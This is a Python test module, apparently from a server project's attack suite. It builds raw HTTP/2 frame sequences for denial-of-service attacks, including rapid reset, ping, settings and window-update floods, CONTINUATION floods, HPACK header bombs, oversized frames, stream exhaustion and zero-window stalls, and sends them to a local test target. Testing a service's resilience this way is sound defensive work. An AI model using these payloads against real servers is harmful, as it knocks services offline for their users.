"""Attacks with frames of HTTP/2: floods, bombs, and windows that stay shut."""

from __future__ import annotations

import struct
from functools import partial
from typing import TYPE_CHECKING

from hpack import Encoder

from tests.attacks.target import pour

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterable

    from tests.attacks.target import Target

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PUSH, _PING, _GOAWAY, _WINDOW, _CONTINUATION = range(10)
_END_HEADERS, _WHOLE = 0x4, 0x5


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", *, length: int | None = None) -> bytes:
    size = len(payload) if length is None else length
    return size.to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def block(target: Target, path: str = "/health", method: str = "GET", *more: tuple[str, str]) -> bytes:
    pseudo = [(":method", method), (":path", path), (":scheme", "https"), (":authority", "localhost")]
    return Encoder().encode([*pseudo, ("authorization", f"Bearer {target.key}"), *more])


def numbered(kind: int, flags: int, payload: bytes, behind: bytes = b"") -> Iterable[bytes]:
    return (frame(kind, flags, number, payload) + behind for number in range(1, 4_000, 2))


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)
SHUT = frame(_SETTINGS, 0, 0, struct.pack("!HI", 4, 0))


def rapid_reset(target: Target) -> bytes:
    head = block(target)
    return b"".join(
        frame(_HEADERS, _WHOLE, number, head) + frame(_RESET, 0, number, bytes(4))
        for number in range(1, 4_000, 2)
    )


def settings(_target: Target) -> bytes:
    return frame(_SETTINGS, 0, 0, struct.pack("!HI", 4, 100)) * 3_000


def pings(_target: Target) -> bytes:
    return frame(_PING, 0, 0, bytes(8)) * 3_000


def priorities(_target: Target) -> bytes:
    return b"".join(numbered(_PRIORITY, 0, struct.pack("!IB", 0, 1)))


def windows(_target: Target) -> bytes:
    return frame(_WINDOW, 0, 0, (1).to_bytes(4, "big")) * 3_000


def continuations(target: Target) -> bytes:
    return frame(_HEADERS, 0, 1, block(target)) + frame(_CONTINUATION, 0, 1, b"x" * 16_000) * 100


def empty_continuations(target: Target) -> bytes:
    return frame(_HEADERS, 0, 1, block(target)) + frame(_CONTINUATION, 0, 1) * 5_000


def header_bombs(target: Target) -> bytes:
    return frame(_HEADERS, _WHOLE, 1, block(target, "/health", "GET", ("x", "y" * 4_000)) + b"\xbe" * 8_000)


def large_frames(_target: Target) -> bytes:
    return frame(_DATA, 0, 1, bytes(1_000_000), length=0xFF_FF_FF)


def empty_data(target: Target) -> bytes:
    return (
        frame(_HEADERS, _END_HEADERS, 1, block(target, "/api/v1/publish", "POST"))
        + frame(_DATA, 0, 1) * 3_000
    )


def too_many_streams(target: Target) -> bytes:
    return b"".join(numbered(_HEADERS, _WHOLE, block(target, "/sse?channels=price:*")))


def shut_windows(target: Target) -> bytes:
    head = block(target, "/sse?channels=price:*")
    return SHUT + b"".join(frame(_HEADERS, _WHOLE, number, head) for number in range(1, 100, 2))


async def _flood(make: Callable[[Target], bytes], target: Target) -> None:
    async with target.secured("h2") as stream:
        await stream.send_all(OPENING + make(target))
        await pour(stream, frame(_PING, 0, 0, bytes(8)))


def _attack(make: Callable[[Target], bytes]) -> Callable[[Target], Awaitable[None]]:
    attack = partial(_flood, make)
    attack.__name__ = f"http2_{make.__name__}"  # type: ignore[attr-defined]
    return attack


ATTACKS = tuple(
    map(
        _attack,
        (
            rapid_reset,
            settings,
            pings,
            priorities,
            windows,
            continuations,
            empty_continuations,
            header_bombs,
            large_frames,
            empty_data,
            too_many_streams,
            shut_windows,
        ),
    )
)
